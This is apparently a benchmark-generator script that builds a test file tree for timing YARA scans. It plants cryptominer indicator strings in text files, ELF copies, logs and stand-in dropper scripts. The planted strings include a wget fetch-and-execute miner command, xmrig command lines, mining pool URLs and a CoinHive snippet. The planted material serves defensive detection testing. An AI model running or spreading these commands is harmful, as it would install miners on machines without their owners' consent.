#!/usr/bin/env python3
"""bench/yara-tree.py DIR [SCALE] - the YARA benchmark's file tree.

Builds, in DIR (which must not exist yet), a tree like the one the
project's performance anchors measured YARA on (bench/yara.sh uses it):

  text/    20,000 small text files, 1-32 KiB, cut from Python, Perl and
           documentation text found on this host
  elf/     ~400 real ELF binaries and libraries copied from
           /usr/lib/x86_64-linux-gnu (at most 32 MiB each)
  blob/    100 random blobs, 1-8 MiB
  log/     4 synthetic 40 MiB logs
  packed/  40 files a default scan skips by their magic bytes (gzip, xz,
           PNG, SQLite) - random data behind real headers
  plus planted miner strings (stratum URLs, donate-level, XMRig agent
  strings, pool names, a stratum login) in some text files, ELF copies,
  logs and dropper scripts.

SCALE (default 1) multiplies every count; --quick uses 0.1.  The content
is deterministic for a given host (fixed seed); the ELF files are the
host's own.  Prints one summary line: files, bytes, planted files.
Never follows links out of the source directories, never executes a
copied file.
"""
import gzip
import lzma
import os
import random
import sys

SEED = 6


def corpus(limit):
    """Text from the host: Python, Perl and doc files, up to limit bytes."""
    roots = ["/usr/lib/python3", "/usr/lib/python3.11", "/usr/share/perl",
             "/usr/share/perl5", "/usr/share/doc", "/usr/share/man"]
    out, n = [], 0
    for r in roots:
        for dp, dns, fns in os.walk(r):
            dns.sort()
            for f in sorted(fns):
                if not f.endswith((".py", ".pm", ".pl", ".txt", ".md",
                                   ".rst", ".html", "README", "copyright",
                                   "changelog.Debian")) and "." in f:
                    continue
                p = os.path.join(dp, f)
                if os.path.islink(p):
                    continue
                try:
                    with open(p, "rb") as fh:
                        b = fh.read(1 << 20)
                except OSError:
                    continue
                if b"\0" in b[:4096]:
                    continue
                out.append(b)
                n += len(b)
                if n >= limit:
                    return b"".join(out)
    if n == 0:
        sys.exit("yara-tree: no text found on this host")
    return b"".join(out)


PLANT = [
    b"stratum+tcp://pool.minexmr.com:4444",
    b"stratum+ssl://gulf.moneroocean.stream:20128",
    b'"donate-level": 1,',
    b"User-Agent: XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0",
    b'{"id":1,"jsonrpc":"2.0","method": "login","params":{"login":"4A"}}',
    b'{"id": 1, "method": "mining.subscribe", "params": ["cpuminer/2.5"]}',
    b"./xmrig -o xmr.nanopool.org:14444 --donate-level 1 -a rx/0 randomx",
    b"wget -q http://203.0.113.7/x; chmod +x x; ./x -o auto.c3pool.org:13333",
    b"var miner = new CoinHive.Anonymous('SITEKEY');",
    b"cryptonight/r pool.hashvault.pro:443",
]


def planted_line(rnd):
    return rnd.choice(PLANT)


def write(path, data):
    with open(path, "wb") as fh:
        fh.write(data)
    return len(data)


def main():
    if len(sys.argv) < 2 or len(sys.argv) > 3:
        sys.exit("usage: yara-tree.py DIR [SCALE]")
    top = sys.argv[1]
    scale = float(sys.argv[2]) if len(sys.argv) == 3 else 1.0
    rnd = random.Random(SEED)
    cnt = lambda n: max(1, int(round(n * scale)))
    os.makedirs(top)
    nfiles = nbytes = nplant = 0

    # text
    text = corpus(48 << 20)
    d = os.path.join(top, "text")
    ntext = cnt(20000)
    for i in range(ntext):
        sub = os.path.join(d, "%03d" % (i // 200))
        if i % 200 == 0:
            os.makedirs(sub)
        size = rnd.randint(1024, 32768)
        off = rnd.randrange(0, max(1, len(text) - size))
        b = text[off:off + size]
        if i % 500 == 7:  # 40 of 20,000
            pos = rnd.randrange(0, len(b))
            b = b[:pos] + b"\n" + planted_line(rnd) + b"\n" + b[pos:]
            nplant += 1
        nbytes += write(os.path.join(sub, "t%05d.%s" % (i, rnd.choice(
            ["py", "txt", "pm", "md", "conf", "sh"]))), b)
        nfiles += 1

    # ELF
    d = os.path.join(top, "elf")
    os.makedirs(d)
    src = "/usr/lib/x86_64-linux-gnu"
    elfs = []
    for f in sorted(os.listdir(src)):
        p = os.path.join(src, f)
        if os.path.islink(p) or not os.path.isfile(p):
            continue
        try:
            st = os.stat(p)
            with open(p, "rb") as fh:
                if fh.read(4) != b"\x7fELF":
                    continue
        except OSError:
            continue
        if st.st_size < (32 << 20):
            elfs.append(p)
    rnd.shuffle(elfs)
    for k, p in enumerate(sorted(elfs[:cnt(400)])):
        with open(p, "rb") as fh:
            b = fh.read()
        if k % 50 == 3:  # an implant's strings appended to a copy
            b += b"\0" + planted_line(rnd) + b"\0"
            nplant += 1
        nbytes += write(os.path.join(d, "%03d-%s" % (k, os.path.basename(p))),
                        b)
        nfiles += 1

    # random blobs
    d = os.path.join(top, "blob")
    os.makedirs(d)
    for i in range(cnt(100)):
        size = rnd.randint(1 << 20, 8 << 20)
        nbytes += write(os.path.join(d, "b%03d.bin" % i), rnd.randbytes(size))
        nfiles += 1

    # logs
    d = os.path.join(top, "log")
    os.makedirs(d)
    lines = [b"%s host%02d sshd[%d]: Accepted publickey for user%d from "
             b"192.0.2.%d port %d ssh2\n", b"%s host%02d CRON[%d]: "
             b"(root) CMD (run-parts /etc/cron.hourly) job=%d u=%d p=%d\n",
             b"%s host%02d nginx[%d]: 198.51.100.%d - - \"GET /index.html "
             b"HTTP/1.1\" 200 %d %d\n"]
    for i in range(cnt(4)):
        parts, n, t = [], 0, 0
        while n < (40 << 20):
            t += 1
            ts = b"Nov 27 %02d:%02d:%02d" % (t // 3600 % 24, t // 60 % 60,
                                            t % 60)
            ln = rnd.choice(lines) % (ts, t % 7, 1000 + t % 30000,
                                      t % 255, t % 65536, t % 9999)
            if t % 400000 == 17:
                ln = b"%s host00 kernel: %s\n" % (ts, planted_line(rnd))
            parts.append(ln)
            n += len(ln)
        nplant += 1
        nbytes += write(os.path.join(d, "syslog.%d" % i), b"".join(parts))
        nfiles += 1

    # formats a default scan skips: real headers, random content
    d = os.path.join(top, "packed")
    os.makedirs(d)
    for i in range(cnt(40)):
        raw = rnd.randbytes(rnd.randint(256 << 10, 4 << 20))
        kind = i % 4
        if kind == 0:
            b, ext = gzip.compress(raw, 1), "gz"
        elif kind == 1:
            b, ext = lzma.compress(raw[:1 << 20], preset=0), "xz"
        elif kind == 2:
            b, ext = b"\x89PNG\r\n\x1a\n" + raw, "png"
        else:
            b, ext = b"SQLite format 3\0" + raw, "db"
        nbytes += write(os.path.join(d, "p%03d.%s" % (i, ext)), b)
        nfiles += 1

    # droppers and miner configs
    d = os.path.join(top, "drop", ".cache", "kthreaddk")
    os.makedirs(d)
    for i in range(cnt(20)):
        body = b"#!/bin/sh\n# fetched\n" + b"\n".join(
            rnd.sample(PLANT, 3)) + b"\n"
        nbytes += write(os.path.join(d, "run%02d.sh" % i), body)
        nfiles += 1
        nplant += 1

    print("files=%d bytes=%d planted=%d" % (nfiles, nbytes, nplant))


if __name__ == "__main__":
    main()
